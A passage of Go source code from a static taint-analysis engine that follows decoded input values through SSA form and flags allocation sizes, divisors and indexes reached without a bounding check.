	}
	for i := 0; i < st.NumFields(); i++ {
		ft := st.Field(i).Type()
		switch ft.Underlying().(type) {
		case *types.Struct, *types.Array, *types.Slice, *types.Pointer:
			out = append(out, t.wireTypeNames(ft, depth+1)...)
		}
	}
	return out
}

func (t *taintEngine) isWireField(v ssa.Value) (string, int, bool) {
	p := t.p
	tn, f, _ := p.fieldLoad(v)
	if tn == "" {
		return "", 0, false
	}
	tn = strings.TrimPrefix(tn, "*")
	if how, ok := t.wire[tn]; ok {
		w := intWidth(v.Type())
		if w > 0 {
			return fmt.Sprintf("%s.%s (%s)", tn, f, how), w, true
		}
	}
	return "", 0, false
}

// propagateFields: fields of non-wire structs that receive a tainted value somewhere
// (e.g. a parsed header copied into a descriptor struct). One round per fixpoint step.
func (t *taintEngine) propagateFields() {
	p := t.p
	for round := 0; round < 4; round++ {
		changed := false
		t.memo = map[ssa.Value]tset{}
		for _, fn := range p.Funcs {
			for _, b := range fn.Blocks {
				for _, in := range b.Instrs {
					st, ok := in.(*ssa.Store)
					if !ok || intWidth(st.Val.Type()) == 0 {
						continue
					}
					tn, f, _ := p.fieldAddr(st.Addr)
					if tn == "" {
						continue
					}
					if _, isWire := t.wire[tn]; isWire {
						continue
					}
					ls := t.taint(st.Val)
					if o, ok := ls.anySrc(); ok {
						key := tn + "." + f
						// a value that is compared on every path to this store, or between the
						// store and every success return of the decoding function, is validated
						// at decode time: the derived field is not a raw header value any more
						okFor := func(kind string) bool {
							if unc, _ := t.uncheckedKind(fn, st, st.Val, kind); !unc {
								return true
							}
							return t.postValidated(fn, st, "f:"+key, kind)
						}
						aOK, dOK := okFor("alloc"), okFor("div")
						if aOK && dOK {
							continue
						}
						_, unb := ls.unboundedSrc()
						old := t.fieldTaint[key]
						nl := tset{{param: -1, bounded: !unb, origin: o + " via " + key, allocOK: aOK, divOK: dOK}}
						merged := mergeT(old, nl)
						if len(merged) != len(old) || (len(old) > 0 && (old[0].bounded != merged[0].bounded || old[0].allocOK != merged[0].allocOK || old[0].divOK != merged[0].divOK)) {
							t.fieldTaint[key] = merged
							changed = true
						}
					}
				}
			}
		}
		if !changed {
			break
		}
	}
	t.memo = map[ssa.Value]tset{}
}

func (t *taintEngine) taint(v ssa.Value) tset {
	if v == nil {
		return nil
	}
	if r, ok := t.memo[v]; ok {
		return r
	}
	if t.busy[v] {
		return nil
	}
	t.busy[v] = true
	r := t.taint1(v)
	delete(t.busy, v)
	t.memo[v] = r
	return r
}

func (t *taintEngine) taint1(v ssa.Value) tset {
	p := t.p
	switch x := v.(type) {
	case *ssa.Const:
		return nil
	case *ssa.Parameter:
		if intWidth(x.Type()) == 0 {
			return nil
		}
		fn := x.Parent()
		for k, pp := range fn.Params {
			if pp == x {
				return tset{{param: k, bounded: intWidth(x.Type()) <= 16}}
			}
		}
		return nil
	case *ssa.Convert:
		s := t.taint(x.X)
		if w := intWidth(x.Type()); w > 0 && w <= 16 {
			return boundAll(s)
		}
		return s
	case *ssa.ChangeType:
		return t.taint(x.X)
	case *ssa.Phi:
		var s tset
		for _, e := range x.Edges {
			s = mergeT(s, t.taint(e))
		}
		return s
	case *ssa.BinOp:
		switch x.Op {
		case token.ADD, token.SUB, token.MUL:
			return mergeT(t.taint(x.X), t.taint(x.Y))
		case token.SHL:
			sy := t.taint(x.Y)
			if sy.tainted() {
				// 1 << field: unbounded whatever the field's width
				out := tset{}
				for _, l := range sy {
					l.bounded = false
					if l.param < 0 {
						l.origin = "shift by " + l.origin
					}
					out = append(out, l)
				}
				return mergeT(t.taint(x.X), out)
			}
			return t.taint(x.X)
		case token.SHR, token.QUO:
			return t.taint(x.X)
		case token.AND:
			for _, side := range []ssa.Value{x.X, x.Y} {
				if k, ok := constInt(side); ok && k >= 0 && k < 1<<24 {
					return boundAll(mergeT(t.taint(x.X), t.taint(x.Y)))
				}
			}
			return mergeT(t.taint(x.X), t.taint(x.Y))
		case token.REM:
			if k, ok := constInt(x.Y); ok && k > 0 && k < 1<<24 {
				return boundAll(t.taint(x.X))
			}
			return mergeT(t.taint(x.X), t.taint(x.Y))
		case token.OR, token.XOR:
			return mergeT(t.taint(x.X), t.taint(x.Y))
		}
		return nil
	case *ssa.UnOp:
		if x.Op == token.SUB || x.Op == token.XOR {
			return t.taint(x.X)
		}
		if x.Op != token.MUL {
			return nil
		}
		if intWidth(x.Type()) == 0 {
			return nil
		}
		if o, w, ok := t.isWireField(x); ok {
			return tset{{param: -1, bounded: w <= 16, origin: o}}
		}
		if how, ok := t.wireAllocs[x.X]; ok {
			return tset{{param: -1, bounded: intWidth(x.Type()) <= 16, origin: "value decoded by " + how}}
		}
		if tn, f, _ := p.fieldLoad(x); tn != "" {
			if s, ok := t.fieldTaint[strings.TrimPrefix(tn, "*")+"."+f]; ok {
				return s
			}
			return nil
		}
		// element of a wire array/slice of integers: Patches[i] etc. handled by field rule;
		// a local variable: follow its stores
		if a, ok := x.X.(*ssa.Alloc); ok {
			var s tset
			for _, ref := range *a.Referrers() {
				if st, ok := ref.(*ssa.Store); ok && st.Addr == a {
					s = mergeT(s, t.taint(st.Val))
				}
			}
			return s
		}
		if ia, ok := x.X.(*ssa.IndexAddr); ok {
			// element of an integer slice/array that is itself a wire field ([]uint32 tables)
			if o, _, ok := t.isWireSlice(ia.X); ok {
				return tset{{param: -1, bounded: intWidth(x.Type()) <= 16, origin: o}}
			}
		}
		return nil
	case *ssa.Field:
		if intWidth(x.Type()) == 0 {
			return nil
		}
		if o, w, ok := t.isWireField(x); ok {
			return tset{{param: -1, bounded: w <= 16, origin: o}}
		}
		if tn, f, _ := p.fieldLoad(x); tn != "" {
			if s, ok := t.fieldTaint[tn+"."+f]; ok {
				return s
			}
		}
		return nil
	case *ssa.Extract:
		call, ok := x.Tuple.(*ssa.Call)
		if !ok {
			return nil
		}
		return t.callResult(call, x.Index)
	case *ssa.Call:
		return t.callResult(x, 0)
	}
	return nil
}

// isWireSlice: v is (a load of) a slice/array-of-integers field of a wire struct.
func (t *taintEngine) isWireSlice(v ssa.Value) (string, int, bool) {
	p := t.p
	tn, f, _ := p.fieldLoad(v)
	if tn == "" {
		tn, f, _ = p.fieldAddr(v)
	}
	if tn == "" {
		return "", 0, false
	}
	if how, ok := t.wire[strings.TrimPrefix(tn, "*")]; ok {
		return fmt.Sprintf("%s.%s[] (%s)", tn, f, how), 32, true
	}
	return "", 0, false
}

func (t *taintEngine) callResult(call *ssa.Call, idx int) tset {
	p := t.p
	sig := call.Common().Signature()
	if idx >= sig.Results().Len() || intWidth(sig.Results().At(idx).Type()) == 0 {
		return nil
	}
	name := p.calleeName(call.Common())
	switch {
	case strings.HasSuffix(name, "ndian).Uint16"):
		return tset{{param: -1, bounded: true, origin: "binary.Uint16"}}
	case strings.HasSuffix(name, "ndian).Uint32"), strings.HasSuffix(name, "ndian).Uint64"), strings.HasSuffix(name, "ByteOrder).Uint32"), strings.HasSuffix(name, "ByteOrder).Uint64"):
		return tset{{param: -1, bounded: false, origin: "binary." + name[strings.LastIndex(name, ".")+1:] + " of input bytes"}}
	case name == "strconv.Atoi" || name == "strconv.ParseInt" || name == "strconv.ParseUint":
		if idx == 0 {
			return tset{{param: -1, bounded: false, origin: name + " of input text"}}
		}
		return nil
	case name == "encoding/binary.Uvarint" || name == "encoding/binary.Varint" || name == "encoding/binary.ReadUvarint" || name == "encoding/binary.ReadVarint":
		if idx == 0 {
			return tset{{param: -1, bounded: false, origin: name}}
		}
		return nil
	}
	if bi, ok := call.Call.Value.(*ssa.Builtin); ok {
		// min / max hand on one of their arguments
		if bi.Name() == "min" || bi.Name() == "max" {
			var out tset
			for _, a := range call.Call.Args {
				out = mergeT(out, t.taint(a))
			}
			return out
		}
		return nil
	}
	sc := call.Common().StaticCallee()
	if sc == nil || sc.Blocks == nil || !p.InModule(pkgOf(sc)) {
		return nil
	}
	sums := t.summary(sc)
	if idx >= len(sums) {
		return nil
	}
	var out tset
	for _, l := range sums[idx] {
		if l.param < 0 {
			out = mergeT(out, tset{l})
			continue
		}
		if l.param < len(call.Call.Args) {
			as := t.taint(call.Call.Args[l.param])
			if l.bounded {
				as = boundAll(as)
			}
			out = mergeT(out, as)
		}
	}
	return out
}

// summary: per result index, the labels of the returned value in terms of the callee's
// own sources and parameters.
func (t *taintEngine) summary(fn *ssa.Function) []tset {
	if s, ok := t.retMemo[fn]; ok {
		return s
	}
	if t.retBusy[fn] {
		return nil
	}
	t.retBusy[fn] = true
	n := fn.Signature.Results().Len()
	out := make([]tset, n)
	for _, r := range returnsOf(fn) {
		for i := 0; i < n && i < len(r.Results); i++ {
			if intWidth(fn.Signature.Results().At(i).Type()) == 0 {
				continue
			}
			out[i] = mergeT(out[i], t.taint(retVal(r, i)))
		}
	}
	delete(t.retBusy, fn)
	t.retMemo[fn] = out
	return out
}

// ---------------------------------------------------------------------------------
// "checked": does some comparison involving the value lie on every path to the sink?

// derivGroup: the values the sink operand was computed from by conversions, arithmetic
// and phis (stopping at loads and calls, which are members), plus the memory keys of
// member loads so that a re-load of the same field counts as the same quantity.
func (t *taintEngine) derivGroup(v ssa.Value) (map[ssa.Value]bool, map[string]bool) {
	g := map[ssa.Value]bool{}
	keys := map[string]bool{}
	var walk func(v ssa.Value, d int)
	walk = func(v ssa.Value, d int) {
		if v == nil || g[v] || d > 30 {
			return
		}
		if _, ok := v.(*ssa.Const); ok {
			return
		}
		g[v] = true
		switch x := v.(type) {
		case *ssa.Convert:
			walk(x.X, d+1)
		case *ssa.ChangeType:
			walk(x.X, d+1)
		case *ssa.BinOp:
			walk(x.X, d+1)
			walk(x.Y, d+1)
		case *ssa.Phi:
			for _, e := range x.Edges {
				walk(e, d+1)
			}
		case *ssa.UnOp:
			if x.Op == token.MUL {
				if k := t.p.memKey(x.X); k != "" {
					keys[k] = true
				}
				if a, ok := x.X.(*ssa.Alloc); ok {
					for _, ref := range *a.Referrers() {
						if st, ok := ref.(*ssa.Store); ok && st.Addr == a {
							walk(st.Val, d+1)
						}
					}
				}
			} else {
				walk(x.X, d+1)
			}
		case *ssa.Field:
			if tn, f, _ := t.p.fieldLoad(x); tn != "" {
				keys["f:"+tn+"."+f] = true
			}
		case *ssa.Extract:
			// member
		case *ssa.Call:
			if bi, ok := x.Call.Value.(*ssa.Builtin); ok && (bi.Name() == "min" || bi.Name() == "max") {
				for _, a := range x.Call.Args {
					walk(a, d+1)
				}
			}
		}
	}
	walk(v, 0)
	return g, keys
}

// comparisonBlocks: blocks of fn ending in an If whose condition compares (ordered or
// equality against a non-derived value) something in the group.
func (t *taintEngine) comparisonBlocks(fn *ssa.Function, g map[ssa.Value]bool, keys map[string]bool, kind string) map[int]bool {
	out := map[int]bool{}
	inGroup := func(v ssa.Value) bool {
		hit := false
		seen := map[ssa.Value]bool{}
		var walk func(v ssa.Value, d int)
		walk = func(v ssa.Value, d int) {
			if v == nil || seen[v] || d > 12 || hit {
				return
			}
			seen[v] = true
			if g[v] {
				hit = true
				return
			}
			switch x := v.(type) {
			case *ssa.Convert:
				walk(x.X, d+1)
			case *ssa.ChangeType:
				walk(x.X, d+1)
			case *ssa.BinOp:
				walk(x.X, d+1)
				walk(x.Y, d+1)
			case *ssa.Phi:
				for _, e := range x.Edges {
					walk(e, d+1)
				}
			case *ssa.UnOp:
				if x.Op == token.MUL {
					if k := t.p.memKey(x.X); k != "" && keys[k] {
						hit = true
					}
				} else {
					walk(x.X, d+1)
				}
			case *ssa.Field:
				if tn, f, _ := t.p.fieldLoad(x); tn != "" && keys["f:"+tn+"."+f] {
					hit = true
				}
			}
		}
		walk(v, 0)
		return hit
	}
	for _, b := range fn.Blocks {
		if len(b.Instrs) == 0 {
			continue
		}
		ifi, ok := b.Instrs[len(b.Instrs)-1].(*ssa.If)
		if !ok {
			continue
		}
		for _, bo := range condCompares(ifi.Cond) {
			switch bo.Op {
			case token.LSS, token.LEQ, token.GTR, token.GEQ:
				if kind == "alloc" {
					// a comparison with zero or a negative constant says the size is not negative: no upper bound
					if k, isK := constInt(bo.Y); isK && k <= 0 {
						continue
					}
					if k, isK := constInt(bo.X); isK && k <= 0 {
						continue
					}
					// "fits in 32 bits" is no bound on an allocation
					if k, isK := constInt(bo.Y); isK && k >= 1<<30 {
						continue
					}
					if k, isK := constInt(bo.X); isK && k >= 1<<30 {
						continue
					}
				}
				if inGroup(bo.X) || inGroup(bo.Y) {
					out[b.Index] = true
				}
			case token.EQL, token.NEQ:
				// for a size, (in)equality with the constant 0 bounds nothing; for a divisor it is the check
				if (kind == "alloc" || kind == "narrow") && (isIntConst(bo.X, 0) || isIntConst(bo.Y, 0)) {
					continue
				}
				if inGroup(bo.X) || inGroup(bo.Y) {
					out[b.Index] = true
				}
			}
		}
	}
	return out
}

// unchecked: can the sink be reached from entry without passing any comparison on the
// quantity? Returns a witness path.
func (t *taintEngine) unchecked(fn *ssa.Function, sink ssa.Instruction, v ssa.Value) (bool, []string) {
	return t.uncheckedKind(fn, sink, v, "alloc")
}

func (t *taintEngine) uncheckedKind(fn *ssa.Function, sink ssa.Instruction, v ssa.Value, kind string) (bool, []string) {
	g, keys := t.derivGroup(v)
	cb := t.comparisonBlocks(fn, g, keys, kind)
	if cb[sink.Block().Index] {
		// comparison in the sink's own block precedes? (If is last, sink is before it) — not a guard
		delete(cb, sink.Block().Index)
	}
	dropNonBounding(fn, cb, sink, v)
	del := map[edge]bool{}
	for bi := range cb {
		for si := range fn.Blocks[bi].Succs {
			del[edge{bi, si}] = true
		}
	}
	pred := map[int]int{}
	seen := reach(fn, []*ssa.BasicBlock{fn.Blocks[0]}, del, pred)
	if seen[sink.Block().Index] {
		return true, t.p.witness(fn, pred, sink.Block().Index)
	}
	return false, nil
}

// postValidated: after the store `st` into the field with memory key fkey, is every success
// return of fn unreachable without passing a comparison on the stored quantity (the value
// or a re-load of that field)?
func (t *taintEngine) postValidated(fn *ssa.Function, st *ssa.Store, fkey, kind string) bool {
	g, keys := t.derivGroup(st.Val)
	keys[fkey] = true
	cb := t.comparisonBlocks(fn, g, keys, kind)
	if len(cb) == 0 {
		return false
	}
	del := map[edge]bool{}
	for bi := range cb {
		for si := range fn.Blocks[bi].Succs {
			del[edge{bi, si}] = true
		}
	}
	// the store's own block may be the comparison block (store, then `if field == 0`)
	var seen map[int]bool
	if cb[st.Block().Index] {
		seen = map[int]bool{}
	} else {
		seen = reachAfter(fn, st, del, nil)
	}
	succ := t.p.successReturns(fn)
	if len(succ) == 0 {
		return false
	}
	for _, r := range succ {
		if seen[r.Block().Index] || (r.Block() == st.Block() && !cb[st.Block().Index]) {
			return false
		}
	}
	return true
}

// ---------------------------------------------------------------------------------

type taintFinding struct {
	Fn     *ssa.Function
	Instr  ssa.Instruction
	Kind   string // "alloc" | "div"
	What   string // construct description for the key
	Origin string
	Path   []string
	OK     bool
	Note   string
}

// scan examines every allocation size and divisor of the module.
func (t *taintEngine) scan() []taintFinding {
	p := t.p
	var out []taintFinding
	// param-dependent sinks: function -> param index -> description
	type psink struct {
		fn    *ssa.Function
		instr ssa.Instruction
		kind  string
		what  string
	}
	paramSinks := map[*ssa.Function]map[int][]psink{}
	examine := func(fn *ssa.Function, in ssa.Instruction, v ssa.Value, kind, what string) {
		ls := t.taint(v)
		if !ls.tainted() {
			return
		}
		var origin string
		var isSrc bool
		if kind == "alloc" {
			origin, isSrc = ls.unboundedSrc()
		} else {
			origin, isSrc = ls.divSrc()
		}
		if isSrc {
			unc, path := t.uncheckedKind(fn, in, v, kind)
			if kind == "alloc" && !unc {
				// bounded from above; a signed size also has to be kept from being negative
				if neg, npath := t.signedSizeUnchecked(fn, in, v); neg {
					out = append(out, taintFinding{Fn: fn, Instr: in, Kind: kind, What: what, Origin: origin + " (a signed value that is compared with an upper limit only: a negative size panics in make)", Path: npath, OK: false})
					return
				}
			}
			f := taintFinding{Fn: fn, Instr: in, Kind: kind, What: what, Origin: origin, Path: path, OK: !unc}
			out = append(out, f)
		} else {
			// a source that was validated where it was decoded: a discharged instance
			for _, l := range ls {
				if l.param < 0 && ((kind == "alloc" && l.allocOK && !l.bounded) || (kind == "div" && l.divOK)) {
					out = append(out, taintFinding{Fn: fn, Instr: in, Kind: kind, What: what, Origin: l.origin + " (validated in the decoding function)", OK: true})
					break
				}
			}
		}
		for _, l := range ls.params() {
			if kind == "alloc" && l.bounded {
				continue
			}
			// only if not checked inside the helper
			if unc, _ := t.uncheckedKind(fn, in, v, kind); unc {
				if paramSinks[fn] == nil {
					paramSinks[fn] = map[int][]psink{}
				}
				paramSinks[fn][l.param] = append(paramSinks[fn][l.param], psink{fn, in, kind, what})
			}
		}
	}
	for _, fn := range p.Funcs {
		n := map[string]int{}
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				switch x := in.(type) {
				case *ssa.MakeSlice:
					n["make"]++
					examine(fn, x, x.Len, "alloc", fmt.Sprintf("make(%s)#%d", p.Rel(x.Type().String()), n["make"]))
					if x.Cap != x.Len {
						examine(fn, x, x.Cap, "alloc", fmt.Sprintf("make(%s)#%d cap", p.Rel(x.Type().String()), n["make"]))
					}
				case *ssa.Call:
					switch p.calleeName(x.Common()) {
					case "(*bytes.Buffer).Grow":
						n["grow"]++
						examine(fn, x, x.Call.Args[1], "alloc", fmt.Sprintf("Buffer.Grow#%d", n["grow"]))
					}
				case *ssa.BinOp:
					if (x.Op == token.QUO || x.Op == token.REM) && intWidth(x.Y.Type()) > 0 {
						if _, isConst := x.Y.(*ssa.Const); isConst {
							continue
						}
						n["div"]++
						examine(fn, x, x.Y, "div", fmt.Sprintf("%s#%d", x.Op, n["div"]))
					}
				}
			}
		}
	}
	// lift parameter-dependent sinks to call sites (depth 3)
	for depth := 0; depth < 3 && len(paramSinks) > 0; depth++ {
		next := map[*ssa.Function]map[int][]psink{}
		for _, fn := range p.Funcs {
			nc := 0
			for _, b := range fn.Blocks {
				for _, in := range b.Instrs {
					call, ok := in.(*ssa.Call)
					if !ok {
						continue
					}
					sc := call.Common().StaticCallee()
					if sc == nil || paramSinks[sc] == nil {
						continue
					}
					for k, sinks := range paramSinks[sc] {
						if k >= len(call.Call.Args) {
							continue
						}
						arg := call.Call.Args[k]
						ls := t.taint(arg)
						if !ls.tainted() {
							continue
						}
						for _, s := range sinks {
							var origin string
							var isSrc bool
							if s.kind == "alloc" {
								origin, isSrc = ls.unboundedSrc()
							} else {
								origin, isSrc = ls.divSrc()
							}
							nc++
							if !isSrc {
								for _, l := range ls {
									if l.param < 0 && ((s.kind == "alloc" && l.allocOK && !l.bounded) || (s.kind == "div" && l.divOK)) {
										out = append(out, taintFinding{Fn: fn, Instr: call, Kind: s.kind, What: fmt.Sprintf("call %s -> %s", p.FName(sc), s.what), Origin: l.origin + " (validated in the decoding function)", OK: true})
										break
									}
								}
							}
							if isSrc {
								unc, path := t.uncheckedKind(fn, call, arg, s.kind)
								out = append(out, taintFinding{Fn: fn, Instr: call, Kind: s.kind, What: fmt.Sprintf("call %s -> %s", p.FName(sc), s.what), Origin: origin, Path: path, OK: !unc,
									Note: "sink in " + p.FName(s.fn) + " at " + p.Pos(s.instr.Pos())})
							}
							for _, l := range ls.params() {
								if s.kind == "alloc" && l.bounded {
									continue
								}
								if unc, _ := t.uncheckedKind(fn, call, arg, s.kind); unc {
									if next[fn] == nil {
										next[fn] = map[int][]psink{}
									}
									next[fn][l.param] = append(next[fn][l.param], s)
								}
							}
						}
					}
				}
			}
		}
		paramSinks = next
	}
	sort.SliceStable(out, func(i, j int) bool {
		a, b := out[i], out[j]
		if p.FName(a.Fn) != p.FName(b.Fn) {
			return p.FName(a.Fn) < p.FName(b.Fn)
		}
		return a.What < b.What
	})
	return out
}

// ---------------------------------------------------------------------------------
// positions: indexes and slice bounds computed from decoded values (kind "index")

type idxOpts struct {
	// values the indexed buffer was sized with: a comparison against one of them bounds the position
	sizeGroup map[ssa.Value]bool
	// length of the indexed array when it is fixed, else 0: only constants up to it bound the position
	arrayLen int64
}

func (t *taintEngine) inGroupFn(g map[ssa.Value]bool, keys map[string]bool) func(ssa.Value) bool {
	return func(v ssa.Value) bool {
		hit := false
		seen := map[ssa.Value]bool{}
		var walk func(v ssa.Value, d int)
		walk = func(v ssa.Value, d int) {
			if v == nil || seen[v] || d > 12 || hit {
				return
			}
			seen[v] = true
			if g[v] {
				hit = true
				return
			}
			switch x := v.(type) {
			case *ssa.Convert:
				walk(x.X, d+1)
			case *ssa.ChangeType:
				walk(x.X, d+1)
			case *ssa.BinOp:
				walk(x.X, d+1)
				walk(x.Y, d+1)
			case *ssa.Phi:
				for _, e := range x.Edges {
					walk(e, d+1)
				}
			case *ssa.UnOp:
				if x.Op == token.MUL {
					if k := t.p.memKey(x.X); k != "" && keys[k] {
						hit = true
					}
				} else {
					walk(x.X, d+1)
				}
			case *ssa.Field:
				if tn, f, _ := t.p.fieldLoad(x); tn != "" && keys["f:"+tn+"."+f] {
					hit = true
				}
			case *ssa.Call:
				// a helper of the module that computes a number from the record it is handed: its result
				// stands for the fields it reads
				sc := x.Common().StaticCallee()
				if sc == nil || len(sc.Blocks) == 0 || !t.p.InModule(pkgOf(sc)) || intWidth(x.Type()) == 0 {
					return
				}
				for _, a := range x.Common().Args {
					walk(a, d+1)
				}
				if hit {
					return
				}
				for _, b := range sc.Blocks {
					for _, in := range b.Instrs {
						val, ok := in.(ssa.Value)
						if !ok {
							continue
						}
						if tn, f, _ := t.p.fieldLoad(val); tn != "" && keys["f:"+strings.TrimPrefix(tn, "*")+"."+f] {
							hit = true
							return
						}
					}
				}
			}
		}
		walk(v, 0)
		return hit
	}
}

// upperBoundBy: does comparing a position with `other` bound it from above?
func (t *taintEngine) upperBoundBy(other ssa.Value, o idxOpts) bool {
	if k, isK := constInt(other); isK {
		return k > 0 && (o.arrayLen == 0 || k <= o.arrayLen)
	}
	if o.arrayLen != 0 {
		// a fixed array is bounded by a constant (its len() is one) only
		return false
	}
	if o.sizeGroup != nil {
		in := t.inGroupFn(o.sizeGroup, nil)
		if in(other) {
			return true
		}
	}
	if _, src := t.taint(other).anySrc(); src {
		return false
	}
	return true
}

// indexGuards: blocks of fn after which a position in the group is bounded from above: an
// ordered comparison with a bounding value, or a call handing it to a function that makes one.
func (t *taintEngine) indexGuards(fn *ssa.Function, g map[ssa.Value]bool, keys map[string]bool, o idxOpts, depth int) map[int]bool {
	out := map[int]bool{}
	inGroup := t.inGroupFn(g, keys)
	for _, b := range fn.Blocks {
		for _, in := range b.Instrs {
			switch x := in.(type) {
			case *ssa.If:
				for _, bo := range condCompares(x.Cond) {
					switch bo.Op {
					case token.LSS, token.LEQ, token.GTR, token.GEQ:
						gx, gy := inGroup(bo.X), inGroup(bo.Y)
						if gx == gy {
							continue
						}
						other := bo.Y
						if gy {
							other = bo.X
						}
						if t.upperBoundBy(other, o) {
							out[b.Index] = true
						}
					}
				}
			case *ssa.Call:
				if depth >= 2 {
					continue
				}
				sc := x.Common().StaticCallee()
				if sc == nil || len(sc.Blocks) == 0 || sc.Signature.Results().Len() == 0 {
					continue
				}
				for k, a := range x.Common().Args {
					if k >= len(sc.Params) || intWidth(a.Type()) == 0 || !inGroup(a) {
						continue
					}
					pg, pk := t.derivGroup(sc.Params[k])
					pg[sc.Params[k]] = true
					if len(t.indexGuards(sc, pg, pk, idxOpts{arrayLen: o.arrayLen}, depth+1)) > 0 {
						out[b.Index] = true
					}
				}
			}
		}
	}
	return out
}

func (t *taintEngine) indexUnchecked(fn *ssa.Function, sink ssa.Instruction, v ssa.Value, o idxOpts) (bool, []string) {
	g, keys := t.derivGroup(v)
	cb := t.indexGuards(fn, g, keys, o, 0)
	// a comparison that ends the sink's own block comes after the sink; a validating call in it
	// counts only when it precedes the sink
	if cb[sink.Block().Index] {
		before := false
		inGroup := t.inGroupFn(g, keys)
		for _, in := range sink.Block().Instrs {
			if in == sink {
				break
			}
			if call, ok := in.(*ssa.Call); ok {
				for _, a := range call.Common().Args {
					if intWidth(a.Type()) > 0 && inGroup(a) {
						before = true
					}
				}
			}
		}
		if before {
			return false, nil
		}
		delete(cb, sink.Block().Index)
	}
	dropNonBounding(fn, cb, sink, v)
	del := map[edge]bool{}
	for bi := range cb {
		for si := range fn.Blocks[bi].Succs {
			del[edge{bi, si}] = true
		}
	}
	pred := map[int]int{}
	seen := reach(fn, []*ssa.BasicBlock{fn.Blocks[0]}, del, pred)
	if seen[sink.Block().Index] {
		return true, t.p.witness(fn, pred, sink.Block().Index)
	}
	return false, nil
}

// dropNonBounding removes from cb the comparison blocks that bound nothing for this sink.
func dropNonBounding(fn *ssa.Function, cb map[int]bool, sink ssa.Instruction, v ssa.Value) {
	// a comparison bounds the position only when one of its outcomes keeps the sink from being
	// reached, or when the position used at the sink is redefined where the two outcomes meet (a
	// clamp); a test both of whose sides go on to the sink with the same value bounds nothing
	for bi := range cb {
		B := fn.Blocks[bi]
		if _, isIf := B.Instrs[len(B.Instrs)-1].(*ssa.If); !isIf || len(B.Succs) != 2 {
			continue
		}
		out := map[edge]bool{{bi, 0}: true, {bi, 1}: true}
		rejecting := false
		for _, s := range B.Succs {
			if s == B {
				continue
			}
			if !reach(fn, []*ssa.BasicBlock{s}, out, nil)[sink.Block().Index] {
				rejecting = true
			}
		}
		if rejecting {
			continue
		}
		clamping := arithDependsOn(v, func(x ssa.Value) bool {
			ph, ok := x.(*ssa.Phi)
			if !ok || ph.Block() == B || !B.Dominates(ph.Block()) {
				return false
			}
			side := map[int]bool{}
			for _, pb := range ph.Block().Preds {
				switch {
				case pb == B:
					side[-1] = true
				case B.Succs[0].Dominates(pb) && !B.Succs[1].Dominates(pb):
					side[0] = true
				case B.Succs[1].Dominates(pb) && !B.Succs[0].Dominates(pb):
					side[1] = true
				default:
					side[2] = true
				}
			}
			return len(side) > 1
		})
		if !clamping {
			delete(cb, bi)
		}
	}
}

// signedSizeUnchecked: the allocation size v is (arithmetic on) a signed integer field decoded from the
// input, and some path reaches the allocation without a comparison that keeps it from being negative
// (an ordered comparison of it with a constant that is not positive, one side of which does not go on
// to the allocation).
func (t *taintEngine) signedSizeUnchecked(fn *ssa.Function, sink ssa.Instruction, v ssa.Value) (bool, []string) {
	signed := func(ty types.Type) bool {
		b, ok := ty.Underlying().(*types.Basic)
		return ok && b.Info()&types.IsInteger != 0 && b.Info()&types.IsUnsigned == 0
	}
	var src ssa.Value
	cur := v
	for i := 0; i < 8 && cur != nil && src == nil; i++ {
		if _, _, isW := t.isWireField(cur); isW && signed(cur.Type()) {
			src = cur
			break
		}
		switch x := cur.(type) {
		case *ssa.Convert:
			if !signed(x.X.Type()) {
				return false, nil // came from an unsigned value: not negative
			}
			cur = x.X
		case *ssa.ChangeType:
			cur = x.X
		case *ssa.BinOp:
			if _, isK := x.Y.(*ssa.Const); isK && (x.Op == token.ADD || x.Op == token.MUL) {
				cur = x.X
			} else {
				return false, nil
			}
		default:
			return false, nil
		}
	}
	if src == nil {
		return false, nil
	}
	g, keys := t.derivGroup(src)
	g[src] = true
	inGroup := t.inGroupFn(g, keys)
	cb := map[int]bool{}
	for _, b := range fn.Blocks {
		ifi, ok := b.Instrs[len(b.Instrs)-1].(*ssa.If)
		if !ok || b == sink.Block() {
			continue
		}
		for _, bo := range condCompares(ifi.Cond) {
			switch bo.Op {
			case token.LSS, token.LEQ, token.GTR, token.GEQ:
			case token.EQL, token.NEQ:
				// equality with a value that does not come from the input (the size of the digest, say) fixes it
				for _, pair := range [][2]ssa.Value{{bo.X, bo.Y}, {bo.Y, bo.X}} {
					if inGroup(pair[0]) && !inGroup(pair[1]) {
						if _, isSrc := t.taint(pair[1]).anySrc(); !isSrc {
							if k, isK := constInt(pair[1]); !isK || k > 0 {
								cb[b.Index] = true
							}
						}
					}
				}
				continue
			default:
				continue
			}
			if k, isK := constInt(bo.Y); isK && k <= 0 && inGroup(bo.X) {
				cb[b.Index] = true
			}
			if k, isK := constInt(bo.X); isK && k <= 0 && inGroup(bo.Y) {
				cb[b.Index] = true
			}
		}
	}
	dropNonBounding(fn, cb, sink, v)
	del := map[edge]bool{}
	for bi := range cb {
		for si := range fn.Blocks[bi].Succs {
			del[edge{bi, si}] = true
		}
	}
	pred := map[int]int{}
	if reach(fn, []*ssa.BasicBlock{fn.Blocks[0]}, del, pred)[sink.Block().Index] {
		return true, t.p.witness(fn, pred, sink.Block().Index)
	}
	return false, nil
}

// condCompares: the comparisons a branch condition stands for: the condition itself, or - for a
// named boolean (`ok := a && b <= n; if ok`, a phi of constants and tests) - the comparisons merged into it.
func condCompares(cond ssa.Value) []*ssa.BinOp {
	for {
		if u, ok := cond.(*ssa.UnOp); ok && u.Op == token.NOT {
			cond = u.X
			continue
		}
		break
	}
	if bo, ok := cond.(*ssa.BinOp); ok {
		return []*ssa.BinOp{bo}
	}
	var out []*ssa.BinOp
	// the test given a name: `if !plausible(n)` with `func plausible(n int64) bool { return n >= 0 && n <= max }`
	// stands for the comparisons its result is made of, with the arguments in place of the parameters
	if call, ok := cond.(*ssa.Call); ok {
		h := call.Call.StaticCallee()
		if h == nil || len(h.Blocks) == 0 || len(h.Blocks) > 16 || h.Signature.Results().Len() != 1 || !isBool(h.Signature.Results().At(0).Type()) {
			return nil
		}
		subst := func(v ssa.Value) ssa.Value {
			if pa, ok := stripConv(v).(*ssa.Parameter); ok {
				for i, hp := range h.Params {
					if hp == pa && i < len(call.Call.Args) {
						return call.Call.Args[i]
					}
				}
			}
			return v
		}
		var inner []*ssa.BinOp
		for _, r := range returnsOf(h) {
			rv := retVal(r, 0)
			if _, isCall := rv.(*ssa.Call); isCall {
				continue
			}
			inner = append(inner, condCompares(rv)...)
		}
		// `a && b` returns a merge whose leaves are b alone; a is the branch that leads there
		for _, hb := range h.Blocks {
